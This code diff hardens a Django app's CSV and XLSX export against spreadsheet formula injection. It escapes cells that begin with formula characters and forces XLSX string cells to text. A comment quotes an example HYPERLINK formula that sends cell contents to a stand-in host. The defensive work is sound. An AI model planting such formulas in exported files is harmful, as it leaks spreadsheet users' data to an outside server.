@@ -10,6 +10,7 @@ neither loads them all at once nor runs a query per row.
 
 import csv
 import datetime as dt
+import itertools
 import tempfile
 from collections.abc import Callable, Iterable
 from dataclasses import dataclass
@@ -21,6 +22,7 @@ from django.utils.translation import gettext
 from django.utils.translation import gettext_lazy as _
 from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 from agreement.jalali import format_jalali
 
@@ -83,14 +85,34 @@ def header_map(columns: list[Column]) -> dict[str, str]:
     return found
 
 
+# A spreadsheet program reads a cell starting with one of these as a formula (or a DDE
+# command): a narrative of `=HYPERLINK("http://x/?"&A1,"click")` would become a live link.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(text: str) -> str:
+    """CSV text that a spreadsheet cannot run: a leading apostrophe makes the cell plain text."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def _xlsx_text(text: str) -> str:
+    """XLSX text as given, minus the control characters the format cannot hold."""
+    return ILLEGAL_CHARACTERS_RE.sub("", text)
+
+
 def _cell_text(value) -> str:
     if value is None:
         return ""
+    if isinstance(value, str):
+        return neutralise(value)
     if isinstance(value, dt.datetime):
         return value.isoformat(sep=" ")
     if isinstance(value, dt.date):
         return value.isoformat()
     return str(value)
+
+
+_NOTHING = object()
 
 
 class _Echo:
@@ -102,10 +124,16 @@ def csv_response(columns: list[Column], rows: Iterable, filename: str) -> Stream
     """UTF-8 with a byte-order mark, so that Excel opens Persian text correctly."""
     writer = csv.writer(_Echo())
     headers = [str(column.header) for column in columns]
+    # Fetch the first row before answering: the query runs (and may fail, with an error page)
+    # now, not after a "200 OK" has gone out and the download is cut off half-way.
+    rows = iter(rows)
+    first = next(rows, _NOTHING)
 
     def lines():
         yield "\ufeff" + writer.writerow(headers)
-        for row in rows:
+        if first is _NOTHING:
+            return
+        for row in itertools.chain([first], rows):
             yield writer.writerow([_cell_text(column.value(row)) for column in columns])
 
     response = StreamingHttpResponse(lines(), content_type=CSV_TYPE)
@@ -130,6 +158,10 @@ def xlsx_response(columns: list[Column], rows: Iterable, filename: str, *, title
             elif isinstance(value, dt.date):
                 cell = WriteOnlyCell(sheet, value=value)
                 cell.number_format = "yyyy-mm-dd"
+            elif isinstance(value, str):
+                cell = WriteOnlyCell(sheet, value=_xlsx_text(value))
+                # Typed as text, so that a value starting with "=" is shown, never calculated.
+                cell.data_type = "s"
             else:
                 cell = WriteOnlyCell(sheet, value="" if value is None else value)
             cells.append(cell)
